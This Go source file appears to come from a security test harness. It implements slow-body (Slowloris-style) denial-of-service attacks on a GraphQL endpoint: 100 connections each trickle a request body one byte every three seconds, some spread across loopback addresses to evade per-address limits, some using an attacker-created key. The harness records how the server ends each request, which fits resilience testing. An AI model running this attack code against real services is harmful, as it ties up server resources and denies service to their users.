package main

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"
)

// The slow bodies: POSTs to /graphql whose valid body arrives one byte
// every few seconds, each holding whatever the server gives a request
// while it reads its body.
const (
	slowConns = 100
	slowEvery = 3 * time.Second
	slowBody  = `{"query":"{ __typename }"}`
	// slowHold is how long after the attack began the slow requests are
	// kept going to see how the server ends them; none is replaced after
	// the window.
	slowHold = 45 * time.Second
)

// slowBodyAttacks returns the slow bodies without a key from one address,
// without a key from 100 addresses (the anonymous limit is per address),
// and with a CREDENTIALS_IN_ONLY key of the attacker.
func slowBodyAttacks() []attack {
	return []attack{
		{name: "slow-bodies", run: func(ctx context.Context, t *target) outcome { return slowBodies(ctx, t, "", false) }},
		{name: "slow-bodies-addrs", run: func(ctx context.Context, t *target) outcome { return slowBodies(ctx, t, "", true) }},
		{name: "slow-bodies-key", run: func(ctx context.Context, t *target) outcome {
			k, err := createKey(ctx, t, t.attackerAdmin.SecretKey, "CREDENTIALS_IN_ONLY", "trickler")
			if err != nil {
				return failed("creating the attacker's key", err)
			}
			return slowBodies(ctx, t, k.SecretKey, false)
		}},
	}
}

// slowTally counts what happened to the slow requests.
type slowTally struct {
	mu          sync.Mutex
	opened      int
	active      int                        // waiting for an answer now
	atWindowEnd int                        // waiting for one when the window ended
	answers     map[string][]time.Duration // by status: how long after the request began
	cut         []time.Duration            // closed by the server without an answer
	heldOpen    int                        // still waiting at slowHold
}

// slowBodies keeps slowConns slow requests going during the window, each
// on a connection of its own (from its own loopback address when spread),
// with secret as the key (none when empty). A request the server answers
// or cuts is replaced a second later. After the window the requests go on,
// unreplaced, until slowHold, to see how the server ends them.
func slowBodies(window context.Context, t *target, secret string, spread bool) outcome {
	tally := &slowTally{answers: map[string][]time.Duration{}}
	hold, cancel := context.WithTimeout(context.WithoutCancel(window), slowHold)
	defer cancel()
	go func() {
		<-window.Done()
		tally.mu.Lock()
		tally.atWindowEnd = tally.active
		tally.mu.Unlock()
	}()
	var wg sync.WaitGroup
	for i := range slowConns {
		wg.Go(func() {
			for window.Err() == nil {
				slowRequest(hold, t, secret, spread, i, tally)
				select {
				case <-window.Done():
				case <-time.After(time.Second):
				}
			}
		})
	}
	wg.Wait()
	tally.mu.Lock()
	defer tally.mu.Unlock()
	var parts []string
	figures := map[string]any{"opened": tally.opened, "unansweredAtWindowEnd": tally.atWindowEnd, "cutByServer": len(tally.cut), "openAtHold": tally.heldOpen}
	parts = append(parts, fmt.Sprintf("%d requests sent, %d of them unanswered at the window's end; by %v after the start", tally.opened, tally.atWindowEnd, slowHold))
	statuses := make([]string, 0, len(tally.answers))
	for s := range tally.answers {
		statuses = append(statuses, s)
	}
	sort.Strings(statuses)
	for _, s := range statuses {
		took := tally.answers[s]
		parts = append(parts, fmt.Sprintf("%d answered %s after %s s", len(took), s, span(minOf(took), maxOf(took))))
		figures["answered "+s] = len(took)
	}
	if len(tally.cut) > 0 {
		parts = append(parts, fmt.Sprintf("%d cut by the server without an answer after %s s", len(tally.cut), span(minOf(tally.cut), maxOf(tally.cut))))
	}
	if tally.heldOpen > 0 {
		parts = append(parts, fmt.Sprintf("%d still open", tally.heldOpen))
	}
	from := "one address"
	if spread {
		from = fmt.Sprintf("%d loopback addresses", slowConns)
	}
	details := []string{fmt.Sprintf("%d connections from %s, each sending a %d-byte body one byte every %v; during the window a request answered or cut is replaced after 1 s, then they go on unreplaced until %v after the start",
		slowConns, from, len(slowBody), slowEvery, slowHold)}
	summary := parts[0]
	if len(parts) > 1 {
		summary += ": " + strings.Join(parts[1:], ", ")
	}
	return outcome{summary: summary, details: details, figures: figures}
}

// slowRequest sends one slow request and records its fate.
func slowRequest(ctx context.Context, t *target, secret string, spread bool, n int, tally *slowTally) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if spread {
		d.LocalAddr = &net.TCPAddr{IP: loopback(n)}
	}
	host := strings.TrimPrefix(t.url, "http://")
	conn, err := d.DialContext(ctx, "tcp", host)
	if err != nil {
		return
	}
	defer conn.Close()
	head := fmt.Sprintf("POST /graphql HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n", host, len(slowBody))
	if secret != "" {
		head += "Authorization: Bearer " + secret + "\r\n"
	}
	start := time.Now()
	if _, err := conn.Write([]byte(head + "\r\n")); err != nil {
		return
	}
	tally.mu.Lock()
	tally.opened++
	tally.active++
	tally.mu.Unlock()
	defer func() {
		tally.mu.Lock()
		tally.active--
		tally.mu.Unlock()
	}()
	answered := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answered <- ""
			return
		}
		resp.Body.Close()
		answered <- resp.Status
	}()
	tick := time.NewTicker(slowEvery)
	defer tick.Stop()
	sent := 0
	for {
		if sent < len(slowBody) {
			if _, err := conn.Write([]byte{slowBody[sent]}); err == nil {
				sent++
			}
		}
		select {
		case status := <-answered:
			tally.mu.Lock()
			if status == "" {
				tally.cut = append(tally.cut, time.Since(start))
			} else {
				tally.answers[status] = append(tally.answers[status], time.Since(start))
			}
			tally.mu.Unlock()
			return
		case <-ctx.Done():
			tally.mu.Lock()
			tally.heldOpen++
			tally.mu.Unlock()
			return
		case <-tick.C:
		}
	}
}
